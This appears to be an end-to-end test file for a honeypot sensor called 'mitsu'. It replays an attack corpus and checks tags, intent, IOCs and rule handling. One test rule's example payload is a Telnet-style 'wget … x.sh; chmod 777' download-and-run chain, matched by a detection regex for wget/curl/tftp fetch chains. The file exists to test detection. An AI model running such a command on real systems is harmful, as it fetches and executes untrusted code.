// End to end: every attack of the corpus sent to the real `mitsu start`, then checked in the
// store for what analysis must say of it (tags, intent, IOCs, template, source), and
// `mitsu reclassify` run over the same store with an extra rule folder.

import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MitsuEvent } from '../src/events/event.js';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
import {
  exportEvents, ROOT, runCli, startSensor, tempDir, type RunningSensor,
} from './helpers/sensor.js';

interface Expect {
  protocol: string;
  tag_any: string[];
  intent: string | string[];
  iocs: string[];
}

interface CorpusRecord {
  id: string;
  port: number;
  transport: 'tcp' | 'udp';
  payload_b64: string;
  expect: Expect;
}

const CORPUS = join(ROOT, 'test/fixtures/corpus/attacks.jsonl');
const HOST = '127.0.6.1';
/** Corpus ports shifted into unprivileged space: rules must match on bytes, not ports. */
const OFFSET = 10_000 + Math.floor(Math.random() * 2_000);

const records: CorpusRecord[] = readFileSync(CORPUS, 'utf8').split('\n')
  .filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as CorpusRecord);

/** `a+b` needs one tag whose id or name holds both words (corpus README). */
function tagMatches(event: MitsuEvent, wanted: string): boolean {
  const words = wanted.toLowerCase().split('+');
  return event.tags.some((tag) => {
    const text = `${tag.id} ${tag.name}`.toLowerCase();
    return words.every((w) => text.includes(w));
  });
}

function eventOf(events: MitsuEvent[], record: CorpusRecord): MitsuEvent {
  const payload = Buffer.from(record.payload_b64, 'base64').toString('base64');
  const event = events.find((e) => e.payload_b64 === payload && e.transport === record.transport
    && e.dst_port === record.port + OFFSET);
  if (event === undefined) throw new Error(`no event for ${record.id}`);
  return event;
}

function describeTags(event: MitsuEvent): string {
  return event.tags.map((t) => `${t.id} (${t.intent})`).join(', ') || 'no tags';
}

describe('analysis of the attack corpus, through the sensor', () => {
  let sensor: RunningSensor;
  let events: MitsuEvent[];

  beforeAll(async () => {
    const ports = [...new Set(records.map((r) => `${r.transport}:${r.port + OFFSET}`))];
    sensor = await startSensor({ ports: ports.join(','), listen: HOST,
      config: { udp: { burst_window_ms: 200 } } });
    const out = runCli(['replay', CORPUS, '--host', HOST, '--port-offset', `${OFFSET}`,
      '--concurrency', '8']);
    expect(out.code, out.stderr).toBe(0);
    expect(await sensor.stop()).toBe(0);
    events = exportEvents(sensor.db);
  }, 120_000);

  afterAll(async () => {
    await sensor?.stop();
  });

  it.each(records.map((r) => [r.id, r] as const))('%s: tag, intent and IOCs', (_id, record) => {
    const event = eventOf(events, record);
    const tags = describeTags(event);
    expect(record.expect.tag_any.some((t) => tagMatches(event, t)),
      `${record.id}: wanted one of ${record.expect.tag_any.join(' | ')}, got ${tags}`).toBe(true);
    const intents = [record.expect.intent].flat();
    expect(intents, `${record.id}: intent ${event.intent} from ${tags}`).toContain(event.intent);
    const found = new Set([...event.iocs.urls, ...event.iocs.ips, ...event.iocs.domains]);
    for (const ioc of record.expect.iocs) expect([...found], record.id).toContain(ioc);
  });

  it('gives every event the rule set version and the scope of its loopback source', () => {
    const versions = new Set(events.map((e) => e.rules_version));
    expect(versions.size).toBe(1);
    expect([...versions][0]).toMatch(/^[0-9a-f]{6,}$/);
    const started = JSON.parse(sensor.logs.find((l) => l.includes('"sensor started"'))!) as
      { rules: number; rules_version: string };
    expect(started.rules).toBeGreaterThanOrEqual(80);
    expect(started.rules_version).toBe([...versions][0]);
    for (const event of events) {
      expect(event.src_scope).toBe('loopback');
      expect(event.country).toBeNull();
    }
  });

  it('puts the three seed 8545 probes in one template, and different families never', () => {
    const byTemplate = new Map<string, CorpusRecord[]>();
    for (const record of records) {
      const template = eventOf(events, record).template;
      expect(template, record.id).not.toBeNull();
      byTemplate.set(template!, [...(byTemplate.get(template!) ?? []), record]);
    }
    const eth = records.filter((r) => r.id.startsWith('seed-8545-'));
    expect(eth).toHaveLength(3);
    expect(new Set(eth.map((r) => eventOf(events, r).template)).size).toBe(1);
    for (const group of byTemplate.values()) {
      const families = new Set(group.map((r) => `${r.expect.protocol} ${r.expect.tag_any}`));
      expect(families.size, group.map((r) => r.id).join(', ')).toBe(1);
    }
  });

  it('re-runs the analysis with an extra rule folder, changing only what the rule adds', () => {
    const dir = tempDir('mitsu-rules-');
    mkdirSync(join(dir, 'rules'));
    writeFileSync(join(dir, 'rules', 'local.yaml'), LOCAL_RULE);
    const out = runCli(['reclassify', '--db', sensor.db, '--rules', join(dir, 'rules')]);
    expect(out.code, out.stderr).toBe(0);
    const summary = JSON.parse(out.stderr.trim().split('\n').pop()!) as Record<string, unknown>;
    expect(summary['events']).toBe(events.length);
    const after = exportEvents(sensor.db);
    const tagged = after.filter((e) => e.tags.some((t) => t.id === 'local-go-http-client'));
    const goClients = events.filter((e) => e.fields['user_agent'] === 'Go-http-client/1.1');
    expect(goClients.length).toBeGreaterThan(0);
    expect(tagged.map((e) => e.id).sort()).toEqual(goClients.map((e) => e.id).sort());
    expect(summary['changed']).toBe(after.length);
    for (const event of after) {
      const before = events.find((e) => e.id === event.id)!;
      // A new tag makes a new template (tags are part of its id); nothing else moves.
      const gained = goClients.some((e) => e.id === event.id);
      if (gained) expect(event.template).not.toBe(before.template);
      const same = (e: MitsuEvent) => ({ ...e, tags: [], rules_version: null,
        template: gained ? null : e.template });
      expect(same(event)).toStrictEqual(same(before));
    }
  });
});

/** A local rule: every event changes version, only Go clients gain a tag. */
const LOCAL_RULE = `
- id: local-go-http-client
  name: Go HTTP client (local rule)
  description: {en: Requests from Go's default HTTP client., ja: Go の標準 HTTP クライアント。}
  intent: scan
  protocol: http
  match: {in: 'field:user_agent', equals: Go-http-client/1.1}
  examples:
    - port: 8545
      payload: "GET / HTTP/1.1\\r\\nHost: 203.0.113.10\\r\\n\\
        User-Agent: Go-http-client/1.1\\r\\n\\r\\n"
`;

/** Large bounded repeats under alternation: RE2 falls back to its slow engine on these. */
const SLOW_RULE = `
- id: local-slow-chain
  name: Slow download chain (local rule)
  description: {en: A download chain with large bounded repeats., ja: 大きな有界反復。}
  intent: malware-download
  match:
    any:
      - {in: payload, regex: '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)'}
      - {in: commands, regex: '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)'}
  examples:
    - port: 23
      payload: "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh\\r\\n"
`;

describe('a rule too slow for hostile payloads', () => {
  it('is refused at start and by reclassify with one line naming it', async () => {
    const dir = tempDir('mitsu-slowrule-');
    mkdirSync(join(dir, 'rules'));
    writeFileSync(join(dir, 'rules', 'slow.yaml'), SLOW_RULE);
    const config = join(dir, 'mitsu.yaml');
    writeFileSync(config, `analysis:\n  rules: [${JSON.stringify(join(dir, 'rules'))}]\n`);
    const stored = join(dir, 'stored.db');
    await SqliteStore.open(stored).close();
    const runs = [
      runCli(['start', '--config', config, '--db', join(dir, 'm.db'), '--ports', 'none',
        '--listen', HOST]),
      runCli(['reclassify', '--config', config, '--db', stored]),
    ];
    for (const out of runs) {
      expect(out.code, out.stderr).toBe(2);
      const lines = out.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/rule local-slow-chain takes \d+ ms on the hostile payload/);
    }
  });
});

describe('a bad rule folder', () => {
  it('stops start-up with one line naming the rule, before any port is bound', () => {
    const dir = tempDir('mitsu-badrules-');
    writeFileSync(join(dir, 'bad.yaml'), '- id: Not Kebab\n  name: x\n');
    const config = join(dir, 'mitsu.yaml');
    writeFileSync(config, `analysis:\n  rules: [${JSON.stringify(dir)}]\n`);
    const out = runCli(['start', '--config', config, '--db', join(dir, 'm.db'),
      '--ports', 'none', '--listen', HOST]);
    expect(out.code).toBe(2);
    const lines = out.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('bad.yaml');
    expect(lines[0]).not.toContain('sensor started');
  });
});
